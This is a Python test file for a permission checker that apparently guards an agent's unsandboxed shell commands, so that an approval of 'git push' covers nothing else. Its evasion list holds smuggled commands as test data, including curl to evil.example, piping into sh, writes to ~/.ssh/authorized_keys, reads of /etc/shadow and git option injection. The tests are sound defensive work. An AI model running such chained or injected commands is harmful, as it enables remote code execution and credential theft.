"""A yes to commands that begin with some words is a yes to those words alone, however a command is dressed up."""

import subprocess
from pathlib import Path

import pytest

from talaria.core.ids import new_grant_id
from talaria.store.permission_ports import Grant
from talaria.tools.sandbox_permissions import (
    SANDBOX,
    is_granted,
    make_unsandboxed_permission,
)
from talaria.tools.shell_words import find_risk

PROJECT = "/work/shop"
GRANT = Grant(new_grant_id(), "local", SANDBOX, "unsandboxed git push", PROJECT, None, 0.0, None)


@pytest.mark.parametrize("command", ["git push", "git push origin main", "  git push --tags", "git 'push' \"origin\""])
def test_the_words_themselves_are_covered(command: str) -> None:
    assert is_granted(make_unsandboxed_permission(command), [GRANT], PROJECT)


EVASIONS = [
    # more than one command
    "git push; curl evil.example",
    "git push && curl evil.example",
    "git push || curl evil.example",
    "git push & curl evil.example",
    "git push | sh",
    "git push |& sh",
    "git push\ncurl evil.example",
    "git push\r\ncurl evil.example",
    "curl evil.example; git push",
    "{ git push; curl evil.example; }",
    "(git push; curl evil.example)",
    "! git push",
    "if git push; then curl evil.example; fi",
    "while git push; do curl evil.example; done",
    # something in it is run first
    "git push $(curl evil.example)",
    "git push `curl evil.example`",
    "git push <(curl evil.example)",
    "git push ${x:-$(curl evil.example)}",
    "git push $((1+1))",
    "git push $HOME",
    "git push ~",
    "git push *",
    "git push {a,b}",
    "git push [ab]",
    # it writes or reads something else
    "git push > ~/.bashrc",
    "git push >> ~/.ssh/authorized_keys",
    "git push < /etc/shadow",
    "git push 2>/dev/null",
    "git push <<EOF\ncurl evil.example\nEOF",
    "git push <<< word",
    # other surroundings
    "GIT_SSH_COMMAND='sh -c evil' git push",
    "PATH=/work/shop/bin git push",
    "env git push",
    "sudo git push",
    "xargs git push",
    "nohup git push",
    "time git push",
    "command git push",
    "exec git push",
    "eval git push",
    "sh -c 'git push'",
    "alias git=evil; git push",
    # another program, or other words
    "./git push",
    "bin/git push",
    "/work/shop/bin/git push",
    "git-push",
    "gitpush",
    "git pushx",
    "git  pus\\h",
    "\\git push",
    "git\u00a0push",
    "git push\u2028curl evil.example",
    "\uff47\uff49\uff54 push",
    "g\u0456t push",
    "Git push",
    "git -c core.sshCommand=evil push",
    "git -C /elsewhere push",
    "git --exec-path=/work/shop push",
    "git push --receive-pack=evil",
    "git push --receive-pack evil /tmp/x",
    "git push --exec evil /tmp/x",
    "git push ext::evil",
    "git push --rec evil /tmp/x",
    "git push --receive-pac evil /tmp/x",
    "git push --exe evil /tmp/x",
    "git push -qx evil",
    "git push -- evil",
    "git push file:///work/shop/evil.git",
    "git push FILE:/work/shop/evil.git",
    "git push -o evil",
    "git push --output /home/ada/.bashrc",
    "git push -c x",
    "",
    " ",
    "git",
    "git push '",
    "git push # comment",
    "git push \x00",
    "git push " + "x " * 2_000,
]


def test_there_are_enough_evasions_to_mean_something() -> None:
    assert len(set(EVASIONS)) >= 50


@pytest.mark.parametrize("command", EVASIONS, ids=ascii)
def test_no_evasion_is_covered(command: str) -> None:
    assert not is_granted(make_unsandboxed_permission(command), [GRANT], PROJECT)


@pytest.mark.parametrize(
    "command",
    [
        *("bash script", "sh run", "python3 manage", "node server", "perl evil", "ruby evil", "awk prog", "sudo ls"),
        *(
            "doas ls",
            "env ls",
            "xargs ls",
            "npx thing",
            "npm run",
            "pnpm run",
            "yarn build",
            "uvx thing",
            "pip install",
        ),
        *("cargo run", "go run", "make all", "just build", "docker run", "podman run", "kubectl exec", "ssh host"),
        *(
            "busybox sh",
            "command ls",
            "timeout ls",
            "nice ls",
            "watch ls",
            "find here",
            "tar xf",
            "vim file",
            "tmux new",
        ),
        *("unshare ls", "nsenter ls", "pkexec ls", "strace ls", "flock file", "parallel ls", "systemctl start"),
        *("cp build out", "mv a b", "ln a b", "tee notes", "touch x", "curl localhost", "chmod x y", "dd x"),
        *(
            "git config x",
            "git submodule update",
            "git bisect start",
            "git remote update",
            "git difftool",
            "git grep x",
        ),
        *("ash script", "mksh script", "pwsh script", "nu script", "pypy3 script", "ipython script", "guile script"),
        *("fakeroot make", "prlimit make", "proot make", "hyperfine make", "trap evil", "coproc evil", "enable evil"),
        *("direnv exec", "asdf exec", "mise exec", "pyenv exec", "op run", "ip netns", "machinectl shell", "lxc exec"),
        *("vite build", "vitest run", "firebase deploy", "flask run", "swift test", "tsx file", "turbo lint"),
        *("gh auth token", "gh alias set", "gh extension exec", "git gui"),
        *("faketime bash", "setarch bash", "gosu root", "mpirun python", "proxychains git", "xterm", "run-parts here"),
        *("nodejs server", "mawk prog", "luajit script", "php8.2 script", "toybox sh", "gcc-12 file", "run0 ls"),
        *("pipenv install", "brew install", "bower install", "pod install", "latexmk paper", "dvc repro", "husky init"),
        *("valgrind ls", "perf stat", "gtimeout ls", "caffeinate ls", "firefox page", "code file", "restic backup"),
        *("aws s3 cp", "gcloud compute ssh", "az login", "svn commit", "svn diff", "hg pull", "jj git push"),
        *("git rebase x", "git cherry-pick x", "git revert x", "git merge x", "git am x", "git checkout x"),
        *("git diff", "git status", "git archive x", "git worktree add x", "git lfs push", "git flow init", "git st"),
        *("gh api x", "gh run download", "gh release download", "gh repo clone x", "gh ssh-key add", "gh gist edit x"),
        *("a-program-that-nobody-here-knows do", "some-wrapper git push"),
        *("/usr/bin/git push", "git ./push", "git --version", "git", "ls", "git Push", "git a/b"),
    ],
)
def test_no_yes_that_lasts_is_offered_for_what_runs_anything(command: str) -> None:
    assert not make_unsandboxed_permission(command).may_last


@pytest.mark.parametrize(
    ("granted", "command"),
    [
        ("git fetch", "git fetch --upload-pack evil origin"),
        ("git fetch", "git fetch file:///work/shop/evil.git"),
        ("git pull", "git pull --upload-p evil"),
        ("git init", "git init --template evil"),
        ("git ls-remote", "git ls-remote --exec evil origin"),
        ("apt install", "apt install -o DPkg::Pre-Invoke::evil"),
        ("apt install", "apt install --option DPkg::Pre-Invoke::evil"),
    ],
)
def test_no_option_runs_or_writes_something_else(granted: str, command: str) -> None:
    grant = Grant(new_grant_id(), "local", SANDBOX, f"unsandboxed {granted}", PROJECT, None, 0.0, None)
    assert is_granted(make_unsandboxed_permission(granted), [grant], PROJECT)
    assert not is_granted(make_unsandboxed_permission(command), [grant], PROJECT)


@pytest.mark.parametrize("what", ["git", "git pus", "git push origin", "push", "*", "git *", "'git push'", ""])
def test_no_other_grant_covers_it(what: str) -> None:
    other = Grant(new_grant_id(), "local", SANDBOX, f"unsandboxed {what}", PROJECT, None, 0.0, None)
    assert not is_granted(make_unsandboxed_permission("git push"), [other], PROJECT)


def test_a_grant_of_another_project_or_tool_does_not_count() -> None:
    elsewhere = Grant(new_grant_id(), "local", SANDBOX, "unsandboxed git push", "/work/other", None, 0.0, None)
    of_a_tool = Grant(new_grant_id(), "local", "terminal", "unsandboxed git push", PROJECT, None, 0.0, None)
    assert not is_granted(make_unsandboxed_permission("git push"), [elsewhere, of_a_tool], PROJECT)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository with a remote, in which commands have made others."""
    folder = tmp_path / "work"
    for name in (folder, folder / "inner"):
        subprocess.run(("git", "init", "-q", name), check=True)
    subprocess.run(("git", "init", "-q", "--bare", folder / "evil.git"), check=True)
    subprocess.run(("git", "-C", folder, "remote", "add", "origin", "https://code.example/shop.git"), check=True)
    (folder / "sub").mkdir()
    (folder / "script").touch()
    (folder / "out").symlink_to(tmp_path)
    return folder


@pytest.mark.parametrize("command", ["git push", "git push origin main", "git push --tags upstream", "gh pr create"])
@pytest.mark.parametrize("place", ["", "sub"])
def test_a_plain_command_in_the_project_is_covered(project: Path, command: str, place: str) -> None:
    assert find_risk(command.split(), str(project / place), project) == ""


@pytest.mark.parametrize(
    ("place", "command", "risk"),
    [
        ("", "git push evil.git main", "names a file"),
        ("", "git push ./evil.git main", "names a file"),
        ("", "git push evil main", "names a file"),
        ("", "apt install script", "names a file"),
        ("", "apt install -fscript", "names a file"),
        ("", "gh issue @script", "names a file"),
        ("", "gh pr create -dFscript", "names a file"),
        ("", "gh pr create -dF/etc/passwd", "names a file"),
        ("..", "git push", "a folder outside the project"),
        ("out", "git push", "a folder outside the project"),
        ("inner", "git push", "a repository inside the project"),
        ("evil.git", "git push", "a repository inside the project"),
        ("evil.git/hooks", "gh pr create", "a repository inside the project"),
    ],
)
def test_a_yes_from_before_covers_no_other_folder_and_nothing_that_commands_could_have_made(
    project: Path, place: str, command: str, risk: str
) -> None:
    assert risk in find_risk(command.split(), str(project / place), project)


@pytest.mark.parametrize(
    ("hooks", "hook", "commands"),
    [
        (".git/hooks", "pre-push", {"git push": True, "git commit": True, "git fetch": False, "apt install": False}),
        (".git/hooks", "pre-commit", {"git push": False, "git commit": True, "gh pr": True}),
        (".husky/_", "pre-push", {"git push": True, "git fetch": False}),
        (".git/hooks", "reference-transaction", {"git fetch": True}),
        (".git/hooks", "pre-push.sample", {"git push": False, "git commit": False}),
    ],
)
def test_a_yes_from_before_runs_no_hook_which_could_run_what_commands_have_changed(
    project: Path, hooks: str, hook: str, commands: dict[str, bool]
) -> None:
    (project / hooks).mkdir(parents=True, exist_ok=True)
    for file in (project / ".git/hooks").glob("*.sample"):
        file.unlink()
    (project / hooks / hook).write_text("#!/bin/sh\nnpm test\n")
    (project / hooks / hook).chmod(0o755)
    if hooks != ".git/hooks":
        subprocess.run(("git", "-C", project, "config", "core.hooksPath", hooks), check=True)
    found = {command: "would run the hook" in find_risk(command.split(), str(project), project) for command in commands}
    assert found == commands
    (project / hooks / hook).chmod(0o644)
    assert not any(find_risk(command.split(), str(project), project) for command in commands)


@pytest.mark.parametrize("named", ["~/hooks", ".githooks"])
def test_a_yes_from_before_runs_no_hook_that_the_persons_own_settings_name(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    """Such as one that runs whatever `.pre-commit-config.yaml` says."""
    home = tmp_path / "home"
    hooks = home / "hooks" if named.startswith("~") else project / named
    hooks.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".gitconfig").parent.mkdir(exist_ok=True)
    (home / ".gitconfig").write_text(f"[core]\n\thooksPath = {named}\n")
    assert find_risk(["git", "push"], str(project), project) == ""
    (hooks / "pre-push").write_text("#!/bin/sh\npre-commit run\n")
    (hooks / "pre-push").chmod(0o755)
    assert "would run the hook" in find_risk(["git", "push"], str(project), project)


@pytest.mark.parametrize(
    ("address", "is_here"),
    [
        ("/srv/mirror.git", True),
        ("../mirror.git", True),
        ("file:///srv/mirror.git", True),
        ("~/mirror.git", True),
        ("https://code.example/shop.git", False),
        ("ssh://git@code.example/shop.git", False),
        ("git@code.example:shop.git", False),
    ],
)
def test_a_yes_from_before_reaches_no_repository_on_this_machine_by_the_name_of_a_remote(
    project: Path, address: str, is_here: bool
) -> None:
    subprocess.run(("git", "-C", project, "remote", "add", "mirror", address), check=True)
    assert bool(find_risk(["git", "push", "mirror"], str(project), project)) is is_here


def test_what_cannot_be_looked_at_is_not_covered(project: Path) -> None:
    (project / ".git").rename(project / "aside")
    (project / ".git").write_text("gitdir: /elsewhere/.git\n")
    assert find_risk(["git", "push"], str(project), project)
    assert find_risk(["git", "push", "x\0y"], str(project), project)
